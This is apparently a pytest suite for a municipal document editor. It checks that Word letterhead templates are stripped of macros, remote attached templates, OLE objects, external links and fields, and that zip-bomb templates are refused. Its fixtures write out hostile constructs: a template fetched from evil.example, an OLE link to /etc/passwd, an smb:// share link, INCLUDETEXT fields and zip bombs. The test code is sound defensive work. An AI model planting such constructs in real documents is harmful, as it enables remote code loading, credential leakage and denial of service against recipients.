"""Templates bring a letterhead and nothing else (issue 14 point 13, issue 16 points 8 and 9)."""

from __future__ import annotations

import io
import os
import subprocess
import sys
import time
import zipfile
import zlib
from pathlib import Path
from typing import Any

import docx
import pytest
from docx.shared import Pt

from os2editor.docx import export_docx
from os2editor.docx.letterhead import MAX_FILE, MAX_MEMBERS
from os2editor.errors import WriteError

from .helpers import NS, exported, png, small_doc, texts, xpath
from .zips import CONTENT_TYPES, DOCUMENT, PACKAGE_RELS, Member, bomb, write_zip

OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def letterhead(target: Path, *, footer: str | None = None, page_number: bool = False) -> Path:
    """A municipality's letterhead: logo and address in the header, a footer of its own."""
    document = docx.Document()
    header = document.sections[0].header
    header.paragraphs[0].add_run().add_picture(io.BytesIO(png()))
    header.add_paragraph("Eksempel Kommune · Rådhuspladsen 1")
    footer_paragraph = document.sections[0].footer.paragraphs[0]
    if footer is not None:
        run = footer_paragraph.add_run(footer)
        run.font.name, run.font.size = "Arial", Pt(8)
    if page_number:
        for kind, text in (("begin", None), (None, " PAGE "), ("end", None)):
            run = footer_paragraph.add_run()
            if kind:
                kind_name = f"{{{NS['w']}}}fldCharType"
                element = run._r.makeelement(f"{{{NS['w']}}}fldChar", {kind_name: kind})
            else:
                element = run._r.makeelement(f"{{{NS['w']}}}instrText", {})
                element.text = text
            run._r.append(element)
    document.add_paragraph("Brødtekst i skabelonen, som ikke skal med.")
    document.save(str(target))
    return target


def rewrite(source: Path, target: Path, changes: dict[str, bytes | None]) -> Path:
    """A copy of the zip ``source`` with members replaced, added or (None) removed."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for info in old.infolist():
            if info.filename not in changes:
                new.writestr(info.filename, old.read(info))
        for name, data in changes.items():
            if data is not None:
                new.writestr(name, data)
    return target


def read(path: Path, name: str) -> bytes:
    with zipfile.ZipFile(path) as archive:
        return archive.read(name)


# -- macros ---------------------------------------------------------------------------------


@pytest.mark.parametrize("renamed", [False, True])
def test_a_template_with_macros_is_refused(tmp_path: Path, renamed: bool) -> None:
    """A .docm (or one renamed .docx) holds vbaProject.bin: refused, nothing written."""
    source = letterhead(tmp_path / "kilde.docx")
    types = read(source, "[Content_Types].xml")
    rels = read(source, "word/_rels/document.xml.rels")
    rels = rels.replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/relationships/'
        b'vbaProject" Target="vbaProject.bin"/></Relationships>',
    )
    if not renamed:
        types = types.replace(
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            MACRO_MAIN.encode(),
        )
    template = rewrite(source, tmp_path / ("brev.docx" if renamed else "brev.docm"), {
        "[Content_Types].xml": types,
        "word/_rels/document.xml.rels": rels,
        "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 Attribute VB_Name = \"Module1\"",
    })
    target = tmp_path / "ud.docx"
    with pytest.raises(WriteError) as raised:
        export_docx(small_doc(), target, template)
    assert raised.value.message.code == "template-macros"
    assert str(raised.value).startswith(f"The template {template} contains macros")
    assert not target.exists()


# -- what a letterhead brings ------------------------------------------------------------------


def hostile_letterhead(tmp_path: Path) -> Path:
    """A letterhead with an attached template on a web server, an OLE object pointing at a
    local file, links of every kind, a thumbnail and another program's properties."""
    source = letterhead(tmp_path / "kilde.docx")
    settings = read(source, "word/settings.xml").replace(
        b"</w:settings>",
        (
            f'<w:attachedTemplate xmlns:r="{OFFICE_RELS}" r:id="rIdEvil"/><w:linkStyles/>'
            '<w:docVars><w:docVar w:name="x" w:val="y"/></w:docVars></w:settings>'
        ).encode(),
    )
    settings_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdEvil" Type="{OFFICE_RELS}/attachedTemplate" '
        'Target="http://evil.example/evil.dotm" TargetMode="External"/></Relationships>'
    ).encode()
    header_name = next(n for n in zipfile.ZipFile(source).namelist() if n.startswith("word/header"))
    header = read(source, header_name).replace(
        b"</w:hdr>",
        f'<w:p xmlns:r="{OFFICE_RELS}"><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-'
        f'microsoft-com:office:office" r:id="rIdOle" ProgID="Package"/></w:object></w:r>'
        f'<w:hyperlink r:id="rIdWeb"><w:r><w:t>os2.eu</w:t></w:r></w:hyperlink>'
        f'<w:hyperlink r:id="rIdSmb"><w:r><w:t>fællesdrev</w:t></w:r></w:hyperlink>'
        f"</w:p></w:hdr>".encode(),
    )
    header_rels_name = header_name.replace("word/", "word/_rels/") + ".rels"
    header_rels = read(source, header_rels_name).replace(
        b"</Relationships>",
        f'<Relationship Id="rIdOle" Type="{OFFICE_RELS}/oleObject" Target="file:///etc/passwd" '
        f'TargetMode="External"/><Relationship Id="rIdWeb" Type="{OFFICE_RELS}/hyperlink" '
        f'Target="https://os2.eu" TargetMode="External"/><Relationship Id="rIdSmb" '
        f'Type="{OFFICE_RELS}/hyperlink" Target="smb://evil/share" TargetMode="External"/>'
        f"</Relationships>".encode(),
    )
    package_rels = read(source, "_rels/.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rIdThumb" Type="http://schemas.openxmlformats.org/package/2006/'
        b'relationships/metadata/thumbnail" Target="docProps/thumbnail.jpeg"/></Relationships>',
    )
    app = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Properties xmlns="http://schemas.'
        b'openxmlformats.org/officeDocument/2006/extended-properties"><Template>Normal.dotm'
        b"</Template><Pages>1</Pages><Application>Microsoft Macintosh Word</Application>"
        b"<Company>Eksempel Kommune</Company></Properties>"
    )
    types = read(source, "[Content_Types].xml").replace(
        b"</Types>", b'<Default Extension="jpeg" ContentType="image/jpeg"/></Types>'
    )
    return rewrite(source, tmp_path / "brev.docx", {
        "word/settings.xml": settings,
        "word/_rels/settings.xml.rels": settings_rels,
        header_name: header,
        header_rels_name: header_rels,
        "_rels/.rels": package_rels,
        "docProps/thumbnail.jpeg": b"\xff\xd8\xff\xe0 thumbnail",
        "docProps/app.xml": app,
        "[Content_Types].xml": types,
    })


def test_only_web_links_leave_the_file(tmp_path: Path) -> None:
    parts, _ = exported(small_doc(), template=hostile_letterhead(tmp_path))
    external = [
        (rel.get("Type").rsplit("/", 1)[1], rel.get("Target"))
        for name, root in parts.items()
        if name.endswith(".rels")
        for rel in xpath(root, "//rel:Relationship[@TargetMode='External']")
    ]
    assert sorted(external) == [
        ("hyperlink", "https://example.org/a%20b"),  # the description's own link
        ("hyperlink", "https://os2.eu"),  # the letterhead's web link
    ]
    settings = parts["word/settings.xml"]
    assert not xpath(settings, "//w:attachedTemplate | //w:linkStyles | //w:docVars")
    header_name = next(n for n in parts if n.startswith("word/header") and n.endswith(".xml"))
    header = parts[header_name]
    assert not header.xpath("//*[local-name()='object' or local-name()='OLEObject']")
    assert [texts(link) for link in xpath(header, "//w:hyperlink")] == ["os2.eu"]
    assert "fællesdrev" in texts(header)  # the link's text stays, without the link
    assert xpath(header, "//w:drawing")  # the logo stays


def test_the_template_properties_stay_behind(tmp_path: Path) -> None:
    """Issue 16 point 9: no "Microsoft Macintosh Word", no Pages=1, no thumbnail, and none of
    python-docx's "generated by python-docx"."""
    template = hostile_letterhead(tmp_path)
    assert b"python-docx" in read(template, "docProps/core.xml")
    parts, _ = exported(small_doc(), template=template)
    app = parts["docProps/app.xml"]
    assert [(child.tag.split("}")[1], child.text) for child in app] == [
        ("Application", "os2editor")
    ]
    core = parts["docProps/core.xml"]
    assert b"python-docx" not in __import__("lxml.etree").etree.tostring(core)
    assert not xpath(core, "//dc:description")
    assert not [name for name in parts["@names"] if "thumbnail" in name]
    assert not [name for name in parts["@names"] if "settings.xml.rels" in name]


def test_the_body_of_a_template_stays_behind(tmp_path: Path) -> None:
    parts, _ = exported(small_doc(), template=letterhead(tmp_path / "brev.docx"))
    assert "Brødtekst i skabelonen" not in texts(parts["word/document.xml"])


# -- bounds -------------------------------------------------------------------------------


def run_bounded(code: str, seconds: float = 30, memory: int = 1536 << 20) -> tuple[int, str, float]:
    """Run Python ``code`` in its own process group with a time and memory limit."""

    limit = f"import resource; resource.setrlimit(resource.RLIMIT_AS, ({memory}, {memory}))\n"
    start = time.monotonic()
    child = subprocess.Popen(
        [sys.executable, "-c", limit + code], stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
        text=True, start_new_session=True,
    )
    try:
        output, _ = child.communicate(timeout=seconds)
    except subprocess.TimeoutExpired:
        os.killpg(child.pid, 9)
        child.communicate()
        pytest.fail(f"the export did not finish within {seconds} s")
    return child.returncode, output, time.monotonic() - start


EXPORT = (
    "import sys; from os2editor.docx import export_docx; from os2editor.errors import WriteError\n"
    "from os2editor.model import FunctionDescription as F\n"
    "try:\n    export_docx(F(h1='A'), sys.argv[0] + '.docx', {template!r})\n"
    "except WriteError as error:\n    print(error.message.code, error); sys.exit(2)\n"
)


def test_the_2_mb_zip_bomb_fails_fast_and_small(tmp_path: Path) -> None:
    """The issue's template: 2 MB on disk, a 2 GiB member. Refused from the zip's directory."""
    template = bomb(tmp_path / "bombe.docx", 2 << 30)
    assert template.stat().st_size < 2_200_000
    code, output, seconds = run_bounded(EXPORT.format(template=str(template)))
    assert code == 2, output
    assert output.startswith("template-bomb The template ")
    assert "far more data than a letterhead holds" in output
    assert seconds < 20


@pytest.mark.parametrize(
    "kind", ["member", "ratio", "members", "lying size", "file size", "pipe", "not a zip"]
)
def test_other_hostile_templates_are_one_plain_error(tmp_path: Path, kind: str) -> None:
    template = tmp_path / "skabelon.docx"
    expected = {"member": "template-bomb", "ratio": "template-bomb", "members": "template-bomb",
                "lying size": "template-not-docx", "file size": "template-too-large",
                "pipe": "template-special", "not a zip": "template-not-docx"}[kind]
    basics = [Member("[Content_Types].xml", CONTENT_TYPES.encode()),
              Member("_rels/.rels", PACKAGE_RELS.encode())]
    if kind == "member":
        bomb(template, 30 << 20)  # larger than any part of a letterhead
    elif kind == "ratio":
        bomb(template, 12 << 20)  # within the size, but packed a thousand times
    elif kind == "members":
        extra = [Member(f"word/media/{n}.png", b"x") for n in range(MAX_MEMBERS)]
        write_zip(template, [*basics, Member("word/document.xml", DOCUMENT.encode()), *extra])
    elif kind == "lying size":
        # The directory says 60 bytes; the data unpacks to 100 MB. Unpacking stops at 60.
        from .zips import zeros_deflated

        deflated, crc = zeros_deflated(100 << 20)
        write_zip(template, [*basics, Member("word/document.xml", deflated=deflated, size=60,
                                              crc=crc)])
    elif kind == "file size":
        with open(template, "wb") as file:
            file.truncate(MAX_FILE + 1)
    elif kind == "pipe":
        os.mkfifo(template)
    else:
        template.write_bytes(b"PK\x03\x04 not really")
    code, output, _ = run_bounded(EXPORT.format(template=str(template)), seconds=30)
    assert code == 2, output
    assert output.split()[0] == expected, output
    assert "Traceback" not in output


def test_a_letterhead_of_ordinary_size_is_fine(tmp_path: Path) -> None:
    template = letterhead(tmp_path / "brev.docx")
    with zipfile.ZipFile(template, "a") as archive:
        archive.writestr("word/media/stort-logo.png", os.urandom(3 << 20))  # unrelated: left out
    parts, _ = exported(small_doc(), template=template)
    assert not [name for name in parts["@names"] if "stort-logo" in name]


# -- issue 16 point 8: the letterhead's header and footer are its own --------------------


def test_a_letterhead_header_gets_no_line_of_ours(tmp_path: Path) -> None:
    parts, _ = exported(small_doc(), template=letterhead(tmp_path / "brev.docx"))
    header = next(root for name, root in parts.items() if name.startswith("word/header"))
    assert texts(header) == "Eksempel Kommune · Rådhuspladsen 1"


def test_a_footer_with_page_numbers_is_left_alone(tmp_path: Path) -> None:
    template = letterhead(tmp_path / "brev.docx", footer="Side ", page_number=True)
    parts, _ = exported(small_doc(), template=template)
    footer = next(root for name, root in parts.items() if name.startswith("word/footer"))
    assert [i.strip() for i in xpath(footer, "//w:instrText/text()")] == ["PAGE"]
    assert "af" not in texts(footer)


def test_page_numbers_join_a_footer_in_its_own_look(tmp_path: Path) -> None:
    template = letterhead(tmp_path / "brev.docx", footer="Eksempel Kommune · 8000 Aarhus")
    parts, _ = exported(small_doc(), template=template)
    footer = next(root for name, root in parts.items() if name.startswith("word/footer"))
    paragraphs = xpath(footer, "w:p")
    assert texts(paragraphs[0]) == "Eksempel Kommune · 8000 Aarhus"
    assert texts(paragraphs[-1]).startswith("Side 1 af 1")
    for run in xpath(paragraphs[-1], "w:r[w:t]"):
        assert xpath(run, "w:rPr/w:rFonts/@w:ascii") == ["Arial"]
        assert xpath(run, "w:rPr/w:sz/@w:val") == ["16"]


def _field(paragraph: Any, instruction: str, result: str) -> None:
    """A complex field as Word writes one: begin, instruction, separate, result, end."""
    w = NS["w"]
    for kind, text in (("begin", None), (None, instruction), ("separate", None),
                       ("result", result), ("end", None)):
        run = paragraph.add_run(text if kind == "result" else None)
        if kind in ("begin", "separate", "end"):
            run._r.append(run._r.makeelement(f"{{{w}}}fldChar", {f"{{{w}}}fldCharType": kind}))
        elif kind is None:
            element = run._r.makeelement(f"{{{w}}}instrText", {})
            element.text = text
            run._r.append(element)


def test_header_fields_that_reach_outside_the_file_become_their_text(tmp_path: Path) -> None:
    """Word updates fields when it prints: INCLUDETEXT would read a file on HR's machine, and a
    HYPERLINK field to a share or a program is the link issue 14 keeps out. They keep the text
    they showed; a web link and the page number stay fields."""
    document = docx.Document()
    header = document.sections[0].header.paragraphs[0]
    _field(header, ' INCLUDETEXT "C:\\\\Skabeloner\\\\adresse.docx" ', "Rådhuspladsen 1")
    header.add_run(" · ")
    _field(header, ' HYPERLINK "file://fællesdrev/intranet" ', "intranet")
    header.add_run(" · ")
    _field(header, ' HYPERLINK "https://os2.eu" ', "os2.eu")
    simple = header._p.makeelement(f"{{{NS['w']}}}fldSimple",
                                   {f"{{{NS['w']}}}instr": ' INCLUDEPICTURE "\\\\srv\\logo.png" '})
    simple.append(header.add_run(" [logo]")._r)
    header._p.append(simple)
    footer = document.sections[0].footer.paragraphs[0]
    footer.add_run("Side ")
    _field(footer, " PAGE ", "1")
    document.save(str(tmp_path / "felter.docx"))

    parts, _ = exported(small_doc(), template=tmp_path / "felter.docx")
    header_part = next(root for name, root in parts.items() if name.startswith("word/header"))
    assert texts(header_part) == "Rådhuspladsen 1 · intranet · os2.eu [logo]"
    assert [i.strip() for i in xpath(header_part, "//w:instrText/text()")] == [
        'HYPERLINK "https://os2.eu"']
    assert not xpath(header_part, "//w:fldSimple")
    assert len(xpath(header_part, "//w:fldChar")) == 3  # the web link's begin, separate, end
    footer_part = next(root for name, root in parts.items() if name.startswith("word/footer"))
    assert [i.strip() for i in xpath(footer_part, "//w:instrText/text()")] == ["PAGE"]


def test_the_bomb_is_what_it_claims() -> None:
    """The test's own bomb unpacks to its size (checked on a small one)."""
    from .zips import zeros_deflated

    data, crc = zeros_deflated(8 << 20)
    unpacked = zlib.decompress(data, -15)
    assert len(unpacked) == 8 << 20 and not any(unpacked) and zlib.crc32(unpacked) == crc
